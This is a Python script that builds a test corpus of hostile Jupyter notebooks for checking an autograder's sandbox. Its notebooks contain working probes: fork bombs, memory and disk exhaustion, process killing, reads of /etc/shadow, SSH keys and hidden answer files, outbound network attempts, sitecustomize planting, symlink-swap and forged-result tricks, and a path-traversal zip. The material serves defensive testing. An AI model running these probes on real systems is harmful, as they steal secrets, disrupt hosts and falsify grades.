"""Write the committed corpus notebooks (tests/corpus/inputs/*.ipynb) from the sources below.

Run ``.venv/bin/python tests/corpus/build_inputs.py`` after editing a source; the notebooks are
committed so a reviewer can open each input, and ``tests/corpus/expected.yaml`` says beside it
what the grader must make of it. Inputs too big or too odd to commit (the 100 MB notebook, the
zip with path-traversal entries) are written at test time by ``generated_inputs`` below.

Conventions of the snooping notebooks: every probe that *succeeds* appends a line to ``leaks``;
the notebook then sets ``answer_words`` to the three expected words only when ``leaks`` is empty,
so a working escape costs the item ``p1_words`` (2 points) and is visible in the result row,
and the leaked text is printed (so the canary grep finds it in the executed notebook).
"""

from __future__ import annotations

import json
import os
import stat
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
INPUTS = HERE / "inputs"
REPO = HERE.parents[1]

# Loopback port the test listens on (TCP and UDP): a connection or datagram there is an escape.
LOOPBACK_PORT = 47613
# Marker in the argv of processes the background-writer notebook leaves behind.
BG_MARKER = "corpus-bg-writer-7e1c"

P1 = "answer_sum = 42\nanswer_words = ['alpha', 'beta', 'gamma']"
P2 = "rule = lambda df: (df['x1'] > 0.5).to_numpy()"


def md(text: str) -> dict:
    return {"cell_type": "markdown", "metadata": {}, "source": text}


def code(text: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "source": text, "outputs": [], "execution_count": None}


def notebook(cells: list[dict], metadata: dict | None = None) -> dict:
    meta = {
        "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
        "language_info": {"name": "python"},
    }
    meta.update(metadata or {})
    for i, cell in enumerate(cells):
        cell["id"] = f"c{i:03d}"
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": meta, "cells": cells}


def solved(
    *, before_p1: str = "", after_p1: str = "", after_p2: str = "", p1: str = P1, p2: str = P2
) -> dict:
    """A correct solution with hostile code inserted at one point."""
    cells = [md("# Corpus assignment\nA submission."), md("# Part 1: answers")]
    if before_p1:
        cells.append(code(before_p1))
    cells.append(code(p1))
    if after_p1:
        cells.append(code(after_p1))
    cells += [md("# Part 2: a rule"), code(p2)]
    if after_p2:
        cells.append(code(after_p2))
    return notebook(cells)


SNOOP_HEAD = "import os, glob, socket, time\nleaks = []\n"
SNOOP_TAIL = (
    "print('LEAKS:', leaks)\n"
    "answer_words = ['alpha', 'beta', 'gamma'] if not leaks else [str(x)[:200] for x in (leaks + ['', '', ''])[:3]]\n"
)


def snoop(body: str) -> dict:
    return solved(after_p2=SNOOP_HEAD + body + "\n" + SNOOP_TAIL)


def read_files(patterns: list[str], *, limit: int = 200) -> str:
    """Snooping body: read every file matching the patterns (bounded), record what was read."""
    return (
        f"for pattern in {patterns!r}:\n"
        "    for path in glob.glob(pattern, recursive=True)[:" + str(limit) + "]:\n"
        "        own = (os.path.realpath(path) + '/').startswith((os.getcwd() + '/', '/assignment/data/'))\n"
        "        if own or not os.path.isfile(path):\n"
        "            continue  # the run's own files and the public data are the student's to read\n"
        "        try:\n"
        "            with open(path, 'rb') as handle:\n"
        "                data = handle.read(4096)\n"
        "            leaks.append(f'{path}: {data[:300]!r}')\n"
        "        except Exception:\n"
        "            pass\n"
    )


CORPUS_ASSIGNMENT = str(HERE / "assignment")

SOURCES: dict[str, dict] = {
    # ------------------------------------------------------------------ well-behaved
    "good_full": solved(),
    "good_partial": solved(p2="rule = lambda df: (df['x2'] > 0.5).to_numpy()"),
    "good_close": solved(p1="answer_sum = 41.8\nanswer_words = ['alpha', 'beta', 'delta']"),
    "template_untouched": notebook(
        [
            md("# Part 1: answers"),
            code("answer_sum = None\nanswer_words = None"),
            md("# Part 2: a rule"),
            code("rule = None"),
        ]
    ),
    "error_cell": solved(before_p1="1 / 0"),
    # ------------------------------------------------------------------ resource abuse
    "infinite_loop": solved(after_p1="while True:\n    pass"),
    "sleep_ignores_sigint": solved(
        after_p1="import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(100000)"
    ),
    "memory_bomb": solved(
        after_p1="hog = []\nwhile True:\n    hog.append(bytearray(50 * 1024 * 1024))  # touched: bytearray zero-fills"
    ),
    "fork_bomb": solved(
        after_p1=(
            "import os, time\n"
            "children = 0\n"
            "for _ in range(400):  # bounded: enough to pass a 64-process limit, not enough to hurt a host\n"
            "    try:\n"
            "        pid = os.fork()\n"
            "    except OSError as exc:\n"
            "        print('fork refused after', children, 'children:', exc)\n"
            "        break\n"
            "    if pid == 0:\n"
            "        time.sleep(30)\n"
            "        os._exit(0)\n"
            "    children += 1\n"
            "print('FORKED', children)"
        )
    ),
    "disk_filler": solved(
        after_p1=(
            "import os\n"
            "written = 0\n"
            "block = b'x' * (4 * 1024 * 1024)\n"
            "for target in ('filler', '/tmp/filler', '/dev/shm/filler'):\n"
            "    for n in range(30):  # bounded: 30 files x 48 MiB (each under the file-size limit)\n"
            "        try:\n"
            "            with open(f'{target}-{n}', 'wb') as handle:\n"
            "                for _ in range(12):\n"
            "                    handle.write(block)\n"
            "                    written += len(block)\n"
            "        except OSError as exc:\n"
            "            print(target, n, 'stopped:', exc, flush=True)\n"
            "            break\n"
            "        print(target, 'total MB', written >> 20, flush=True)\n"
            "print('WROTE_MB', written >> 20)"
        )
    ),
    "output_flood": solved(after_p1="for i in range(200000):\n    print('flood ' * 40, i)"),
    "big_image_output": solved(
        after_p1=(
            "import base64, os\n"
            "from IPython.display import display\n"
            "blob = base64.b64encode(os.urandom(38 * 1024 * 1024)).decode()  # ~50 MB of base64\n"
            "display({'image/png': blob}, raw=True)\n"
            "del blob"
        )
    ),
    "deep_recursion": solved(
        after_p1="import sys\nsys.setrecursionlimit(10**7)\ndef down(n):\n    return down(n + 1) + 1\ndown(0)"
    ),
    "endless_thread": solved(
        after_p1=(
            "import threading, time\n"
            "def spin():\n"
            "    while True:\n"
            "        time.sleep(0.05)\n"
            "threading.Thread(target=spin, daemon=False).start()"
        )
    ),
    "background_writer": solved(
        after_p2=(
            "import subprocess, sys\n"
            "script = '''\n"
            "import os, time\n"
            "for i in range(600):\n"
            "    time.sleep(1)\n"
            "    for place in ('/tmp', '/dev/shm', os.path.expanduser('~'), "
            + repr(str(REPO))
            + ", "
            + repr(str(HERE / "assignment" / "data" / "public"))
            + "):\n"
            "        try:\n"
            "            with open(os.path.join(place, 'corpus-late-write-' + str(os.getpid())), 'a') as fh:\n"
            "                fh.write('late write %d\\\\n' % i)\n"
            "        except OSError:\n"
            "            pass\n"
            "'''\n"
            "# a double-forked daemon in its own session, with a marker in its argv\n"
            "subprocess.Popen([sys.executable, '-c', script, '" + BG_MARKER + "'], start_new_session=True,\n"
            "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
            "print('daemon started')"
        )
    ),
    # ------------------------------------------------------------------ crashes
    "os_exit": solved(after_p1="import os\nos._exit(3)"),
    "segfault_ctypes": solved(after_p1="import ctypes\nctypes.string_at(0)"),
    "kill_parent": solved(after_p1="import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
    "kill_process_group": solved(after_p1="import os, signal\nos.killpg(0, signal.SIGKILL)"),
    "kill_everything": solved(after_p1="import os, signal\nos.kill(-1, signal.SIGKILL)"),
    "close_stdout": solved(
        after_p1="import os, sys\nsys.stdout.flush()\nos.close(1)\nos.close(2)\nsys.stdout.close()\nsys.stderr.close()"
    ),
    # An audit hook (it cannot be removed) kills the kernel the moment anything opens a file of the
    # harvest's staging directories: deterministically inside the answers stage, before any answer
    # is written out (a polling thread raced the few-millisecond answers stage).
    "dies_during_harvest": solved(
        after_p2=(
            "import os, sys\n"
            "def _die_in_harvest(event, args):\n"
            "    if event == 'open' and args and '.grader-harvest' in str(args[0]):\n"
            "        os._exit(0)\n"
            "sys.addaudithook(_die_in_harvest)"
        )
    ),
    # ------------------------------------------------------------------ escapes and snooping
    "net_tcp_out": snoop(
        "for host, port in [('1.1.1.1', 80), ('8.8.8.8', 53), ('10.0.0.1', 80), ('169.254.169.254', 80)]:\n"
        "    try:\n"
        "        socket.create_connection((host, port), timeout=2).close()\n"
        "        leaks.append(f'tcp {host}:{port}')\n"
        "    except OSError:\n"
        "        pass"
    ),
    "net_udp": snoop(
        "for host, port in [('127.0.0.1', " + str(LOOPBACK_PORT) + "), ('8.8.8.8', 53)]:\n"
        "    try:\n"
        "        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "        s.sendto(b'corpus-udp-escape', (host, port))\n"
        "        leaks.append(f'udp sent to {host}:{port}')\n"
        "    except OSError:\n"
        "        pass"
    ),
    "net_loopback": snoop(
        "for host in ('127.0.0.1', '::1', 'localhost'):\n"
        "    try:\n"
        "        c = socket.create_connection((host, " + str(LOOPBACK_PORT) + "), timeout=2)\n"
        "        c.sendall(b'corpus-tcp-escape')\n"
        "        c.close()\n"
        "        leaks.append(f'tcp loopback {host}')\n"
        "    except OSError:\n"
        "        pass\n"
        "# the kernel's own sockets and other kernels' sockets, by scanning /proc/net/unix names\n"
        "try:\n"
        "    for line in open('/proc/net/unix').read().splitlines()[1:]:\n"
        "        path = line.split()[-1] if len(line.split()) > 7 else ''\n"
        "        # another run's kernel sockets (this run's own are in grader-run-net_loopback-*)\n"
        "        if path.startswith('/') and 'grader-run-' in path and 'grader-run-net_loopback-' not in path:\n"
        "            leaks.append('unix socket visible: ' + path)\n"
        "except OSError:\n"
        "    pass"
    ),
    "net_dns": snoop(
        "for name in ('example.com', 'pypi.org'):\n"
        "    try:\n"
        "        socket.getaddrinfo(name, 443)\n"
        "        leaks.append(f'dns {name}')\n"
        "    except OSError:\n"
        "        pass"
    ),
    "read_shadow": snoop(
        read_files(["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.ssh/*", "/etc/ssh/ssh_host_*_key"])
    ),
    "read_home": snoop(
        read_files(["/root/*", "/root/.*", "/home/*/*", "/home/*/.*", "/root/.cache/**/*"], limit=50)
        + "import sys\n"
        "# what the kernel needs (the Python install, the venv) may be visible; anything else is a leak\n"
        "needed = {os.path.realpath(p) for p in (sys.prefix, sys.base_prefix, os.path.expanduser('~'))}\n"
        "for d in ('/root', '/home', '/work', os.path.dirname(os.path.realpath(sys.prefix))):\n"
        "    try:\n"
        "        names = os.listdir(d)\n"
        "    except OSError:\n"
        "        continue\n"
        "    for name in names:\n"
        "        full = os.path.join(d, name)\n"
        "        if not any(n == full or n.startswith(full + '/') for n in needed):\n"
        "            leaks.append(f'listed {full}')"
    ),
    "read_canary_tmp": snoop(
        read_files(
            ["/tmp/corpus-canary*/**/*", "/tmp/pytest-of-*/**/canary*", "/var/tmp/**/canary*", "/tmp/*"],
            limit=100,
        )
    ),
    "read_hidden": snoop(
        read_files(
            [
                CORPUS_ASSIGNMENT + "/data/hidden/*",
                os.path.join("/assignment/data", "..", "hidden", "*"),
                "/assignment/hidden/*",
                "/assignment/*/hidden/*",
                "/tmp/pytest-of-*/**/hidden/*",
                "/root/.cache/ml-autograder/**/hidden/*",
            ]
        )
        + "d = os.environ.get('ASSIGNMENT_DATA', '/assignment/data')\n"
        "for rel in ('../hidden/test_y.csv', '../../hidden/test_y.csv', '../MANIFEST.json'):\n"
        "    try:\n"
        "        leaks.append(rel + ': ' + open(os.path.join(d, rel)).read(300))\n"
        "    except OSError:\n"
        "        pass"
    ),
    "read_expected": snoop(
        read_files(
            [
                CORPUS_ASSIGNMENT + "/reference/*",
                str(REPO) + "/reference/*/*",
                "/tmp/pytest-of-*/**/expected.json",
            ]
        )
    ),
    "read_reference": snoop(
        read_files(
            [
                CORPUS_ASSIGNMENT + "/reference/*.ipynb",
                str(REPO) + "/tests/corpus/assignment/*",
                str(REPO) + "/rubrics/*",
            ]
        )
        + "import sys\n"
        "for p in sys.path:\n"
        "    if p and os.path.isdir(os.path.join(p, 'grader')):\n"
        "        leaks.append('grader package visible at ' + p)"
    ),
    "read_other_submissions": snoop(
        read_files(
            [
                "/tmp/pytest-of-*/**/subs/*.ipynb",
                "/tmp/pytest-of-*/**/out/executed/*",
                "/tmp/pytest-of-*/**/out/results/*",
                "/tmp/grader-run-*/**/*",
                str(REPO) + "/tests/corpus/inputs/*",
                "../*/*",
            ]
        )
    ),
    "env_vars": snoop(
        "for key, value in os.environ.items():\n"
        "    if 'CORPUS' in key or 'SECRET' in key or 'ML_AUTOGRADER' in key or value.startswith('/root'):\n"
        "        leaks.append(f'env {key}={value}')\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n"
        "        try:\n"
        "            env = open(f'/proc/{pid}/environ', 'rb').read()\n"
        "        except OSError:\n"
        "            continue\n"
        "        if b'CORPUS_SECRET' in env:\n"
        "            leaks.append(f'environ of pid {pid}: ' + env.decode('latin-1')[:300])"
    ),
    "proc_snoop": snoop(
        "mine = os.getpid()\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n"
        "        try:\n"
        "            cmd = open(f'/proc/{pid}/cmdline', 'rb').read().replace(b'\\0', b' ').decode('latin-1')\n"
        "        except OSError:\n"
        "            continue\n"
        "        if 'grader' in cmd and 'ipykernel' not in cmd and 'launch' not in cmd:\n"
        "            leaks.append(f'pid {pid}: {cmd[:200]}')\n"
        "# the host's file system through another process's root (the sandbox's own pid 1 is fine)\n"
        "for pid in os.listdir('/proc'):\n"
        "    for probe in ('/etc/shadow', " + repr(str(REPO / "grader" / "__init__.py")) + "):\n"
        "        if pid.isdigit() and os.path.exists(f'/proc/{pid}/root{probe}'):\n"
        "            leaks.append(f'host file {probe} via /proc/{pid}/root')"
    ),
    "write_public_data": snoop(
        "d = os.environ.get('ASSIGNMENT_DATA', '/assignment/data')\n"
        "for target in [os.path.join(d, 'train.csv'), os.path.join(d, 'planted.csv'),\n"
        "               " + repr(CORPUS_ASSIGNMENT + "/data/public/train.csv") + ",\n"
        "               " + repr(CORPUS_ASSIGNMENT + "/data/public/planted.csv") + "]:\n"
        "    try:\n"
        "        with open(target, 'a') as handle:\n"
        "            handle.write('r999,0.9,0.9,no\\n')\n"
        "        leaks.append('wrote ' + target)\n"
        "    except OSError:\n"
        "        pass\n"
        "for victim in [os.path.join(d, 'train.csv')]:\n"
        "    try:\n"
        "        os.chmod(victim, 0o666)\n"
        "        leaks.append('chmod ' + victim)\n"
        "    except OSError:\n"
        "        pass"
    ),
    "tmp_plant": snoop(
        "for place in ('/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~') + '/..', '/run'):\n"
        "    try:\n"
        "        with open(os.path.join(place, 'corpus-planted-for-next.py'), 'w') as handle:\n"
        "            handle.write('print(\"planted\")\\n')\n"
        "    except OSError:\n"
        "        pass\n"
        "# a sitecustomize for the next kernel, wherever a writable site directory is\n"
        "import site, sys\n"
        "for d in site.getsitepackages() + [site.getusersitepackages()] + sys.path:\n"
        "    try:\n"
        "        if d and os.path.isdir(d):\n"
        "            with open(os.path.join(d, 'sitecustomize.py'), 'a') as handle:\n"
        "                handle.write('')\n"
        "            leaks.append('writable site dir ' + d)\n"
        "    except OSError:\n"
        "        pass"
    ),
    "tmp_reader": snoop(
        read_files(
            [
                "/tmp/corpus-planted*",
                "/var/tmp/corpus-planted*",
                "/dev/shm/corpus-planted*",
                "/tmp/corpus-late-write*",
            ]
        )
    ),
    # ------------------------------------------------------------------ forging
    "lying_float": solved(
        p1=(
            "class Liar(float):\n"
            "    def __eq__(self, other):\n"
            "        return True\n"
            "    __ne__ = lambda self, other: False\n"
            "    __lt__ = __le__ = __gt__ = __ge__ = __eq__\n"
            "    def __sub__(self, other):\n"
            "        return 0.0\n"
            "    __rsub__ = __sub__\n"
            "    def __abs__(self):\n"
            "        return 0.0\n"
            "    __hash__ = float.__hash__\n"
            "answer_sum = Liar(7)\n"
            "answer_words = ['alpha', 'beta', 'gamma']"
        )
    ),
    "lying_list": solved(
        p1=(
            "class Liar(list):\n"
            "    def __eq__(self, other):\n"
            "        return True\n"
            "    def __len__(self):\n"
            "        return 3\n"
            "answer_sum = 42\n"
            "answer_words = Liar(['nope'])"
        )
    ),
    "lying_numpy": solved(
        p1=(
            "import numpy as np\n"
            "class Liar(np.ndarray):\n"
            "    def __eq__(self, other):\n"
            "        return np.ones(3, dtype=bool)\n"
            "answer_sum = np.float64(42)\n"
            "answer_words = np.array(['no', 'no', 'no']).view(Liar)"
        )
    ),
    "repr_raises": solved(
        p1=(
            "class Evil:\n"
            "    def __repr__(self):\n"
            "        raise RuntimeError('no repr for you')\n"
            "    __str__ = __repr__\n"
            "    def __float__(self):\n"
            "        raise RuntimeError('no float either')\n"
            "    def __eq__(self, other):\n"
            "        raise RuntimeError('no eq')\n"
            "answer_sum = Evil()\n"
            "answer_words = ['alpha', 'beta', 'gamma']"
        )
    ),
    "repr_hangs": solved(
        p1=(
            "import time\n"
            "class Stall:\n"
            "    def __repr__(self):\n"
            "        while True:\n"
            "            time.sleep(1)\n"
            "    __str__ = __repr__\n"
            "    def __float__(self):\n"
            "        while True:\n"
            "            time.sleep(1)\n"
            "    def __iter__(self):\n"
            "        while True:\n"
            "            yield 'alpha'\n"
            "    def __len__(self):\n"
            "        return 3\n"
            "answer_sum = Stall()\n"
            "answer_words = ['alpha', 'beta', 'gamma']"
        )
    ),
    "enormous_answer": solved(
        p1=("answer_sum = 42\nanswer_words = ['alpha' * 40_000_000, 'beta', 'gamma']  # 200 MB of text\n")
    ),
    "enormous_int": solved(p1="answer_sum = 10 ** 100000\nanswer_words = ['alpha', 'beta', 'gamma']"),
    "harvest_symlink_swap": solved(
        after_p2=(
            "import os, threading, time\n"
            "TARGETS = [" + repr(CORPUS_ASSIGNMENT + "/data/hidden/test_y.csv") + ", '/etc/shadow']\n"
            "def swap():\n"
            "    # replace every file the harvest writes with a symlink to a host file, hoping the\n"
            "    # grader (root, outside the sandbox) follows it and reports what it read\n"
            "    done = set()\n"
            "    while True:\n"
            "        for d in os.listdir('.'):\n"
            "            if d.startswith('.grader-harvest'):\n"
            "                for name in os.listdir(d):\n"
            "                    path = os.path.join(d, name)\n"
            "                    if path in done or not name.endswith('.json'):\n"
            "                        continue\n"
            "                    try:\n"
            "                        os.symlink(TARGETS[len(done) % 2], path + '.tmp')\n"
            "                        os.replace(path + '.tmp', path)\n"
            "                        done.add(path)\n"
            "                    except OSError:\n"
            "                        pass\n"
            "        time.sleep(0.001)\n"
            "threading.Thread(target=swap, daemon=True).start()"
        )
    ),
    "model_sleeps": solved(p2="import time\ndef rule(df):\n    time.sleep(100000)"),
    "model_exits": solved(p2="import os\ndef rule(df):\n    os._exit(7)"),
    "model_leaks_inputs": solved(p2=("def rule(df):\n    raise ValueError('hidden rows: ' + df.to_csv())")),
    "model_lying_predictions": solved(
        p2=(
            "import numpy as np\n"
            "class Yes(np.ndarray):\n"
            "    def __eq__(self, other):\n"
            "        return np.ones(len(self), dtype=bool)\n"
            "def rule(df):\n"
            "    return np.zeros(len(df), dtype=bool).view(Yes)"
        )
    ),
    "monkeypatch_json": solved(
        p1="answer_sum = 0\nanswer_words = ['alpha', 'beta', 'gamma']",
        after_p2=(
            "import json\n"
            '_forged = \'{"answers": {"answer_sum": {"status": "ok", "value": 42}, '
            '"answer_words": {"status": "ok", "value": ["alpha", "beta", "gamma"]}}}\'\n'
            "def dump(obj, fp, *args, **kwargs):\n"
            "    fp.write(_forged)\n"
            "def dumps(obj, *args, **kwargs):\n"
            "    return _forged\n"
            "json.dump, json.dumps = dump, dumps\n"
            "json.loads = lambda *a, **k: {'kind': 'answers', 'names': []}"
        ),
    ),
    "monkeypatch_print_display": solved(
        after_p2=(
            "import builtins, sys, IPython.display\n"
            "def broken(*args, **kwargs):\n"
            "    raise SystemExit('print is gone')\n"
            "builtins.print = broken\n"
            "IPython.display.display = broken\n"
            "builtins.open = broken\n"
            "sys.stdout = None\n"
            "sys.stderr = None\n"
            "builtins.__import__ = lambda *a, **k: (_ for _ in ()).throw(ImportError('no imports'))"
        )
    ),
    # ------------------------------------------------------------------ malformed but runnable
    "unknown_kernel": {
        **solved(),
        "metadata": {
            "kernelspec": {"name": "julia-1.9", "display_name": "Julia 1.9", "language": "julia"},
            "language_info": {"name": "julia"},
        },
    },
    "widget_state": {
        **solved(
            after_p1=(
                "from IPython.display import display\n"
                "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'abc', 'version_major': 2, 'version_minor': 0},\n"
                "         'text/plain': 'IntSlider(value=3)'}, raw=True)"
            )
        ),
        "metadata": {
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
            "widgets": {
                "application/vnd.jupyter.widget-state+json": {
                    "version_major": 2,
                    "version_minor": 0,
                    "state": {
                        "abc": {
                            "model_name": "IntSliderModel",
                            "model_module": "@jupyter-widgets/controls",
                            "model_module_version": "2.0.0",
                            "state": {"value": 3},
                        }
                    },
                }
            },
        },
    },
}

# Raw bytes inputs: not notebooks at all, or broken ones.
RAW: dict[str, bytes] = {
    "invalid_json.ipynb": b'{"cells": [{"cell_type": "code", "source": "x = 1"',
    "empty_file.ipynb": b"",
    "python_script.ipynb": b"import os\nanswer_sum = 42\nprint(os.getcwd())\n",
    "not_utf8.ipynb": b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "x": "\xff\xfe\xc3\x28"}',
    "nbformat3.ipynb": json.dumps(
        {
            "metadata": {"name": "old"},
            "nbformat": 3,
            "nbformat_minor": 0,
            "worksheets": [
                {
                    "cells": [
                        {"cell_type": "code", "input": "answer_sum = 42", "language": "python", "outputs": []}
                    ]
                }
            ],
        }
    ).encode(),
    "no_cells.ipynb": json.dumps(notebook([])).encode(),
    "json_not_notebook.ipynb": b'["this", "is", "json"]',
    "deeply_nested_json.ipynb": b'{"cells": [], "nbformat": 4, "metadata": '
    + b"[" * 100000
    + b"]" * 100000
    + b"}",
    "bad_schema.ipynb": json.dumps(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "rocket", "source": 42}]}
    ).encode(),
}


def write_committed(dest: Path = INPUTS) -> list[Path]:
    """(Re)write every committed input into ``dest``; returns the paths.

    The snooping notebooks name this repository's absolute path; the committed copies were built
    in /work/main, and the test rebuilds them for wherever the repository is checked out.
    """
    dest.mkdir(exist_ok=True)
    written = []
    for name, nb in SOURCES.items():
        path = dest / f"{name}.ipynb"
        path.write_text(json.dumps(nb, indent=1) + "\n", encoding="utf-8")
        written.append(path)
    for name, data in RAW.items():
        path = dest / name
        path.write_bytes(data)
        written.append(path)
    # two submissions of one student: a sub-folder is a student (grader.intake)
    dupe = dest / "dupe_student"
    dupe.mkdir(exist_ok=True)
    older = dupe / "attempt1.ipynb"
    older.write_text(json.dumps(solved(p2="rule = lambda df: (df['x2'] > 0.5).to_numpy()"), indent=1) + "\n")
    newer = dupe / "attempt2.ipynb"
    newer.write_text(json.dumps(solved(), indent=1) + "\n")
    os.utime(older, (1_700_000_000, 1_700_000_000))
    os.utime(newer, (1_700_000_100, 1_700_000_100))
    written += [older, newer]
    return written


# ---------------------------------------------------------------------------------------------
# inputs written at test time


def huge_notebook(path: Path, size_mb: int = 100) -> Path:
    """A valid nbformat-4 notebook of ``size_mb`` MB (a giant saved output)."""
    nb = solved()
    nb["cells"][2]["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": "A" * (size_mb * 1024 * 1024)}
    ]
    path.write_text(json.dumps(nb), encoding="utf-8")
    return path


def traversal_zip(path: Path, good: dict, other: dict) -> Path:
    """An LMS-style export with path-traversal, absolute, symlink and Windows entries, plus two
    students' good notebooks (``zipstudent``, ``zipstudent2``)."""
    payload = json.dumps(good).encode()
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("zipstudent/hw.ipynb", payload)
        archive.writestr("zipstudent2/hw.ipynb", json.dumps(other).encode())
        archive.writestr("../../../../../../tmp/corpus-zip-escape.ipynb", payload)
        archive.writestr("/tmp/corpus-zip-absolute.ipynb", payload)
        archive.writestr("..\\..\\corpus-zip-windows.ipynb", payload)
        link = zipfile.ZipInfo("zipsymlink/hw.ipynb")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/shadow")
    return path


if __name__ == "__main__":
    for p in write_committed():
        print(p.relative_to(REPO))
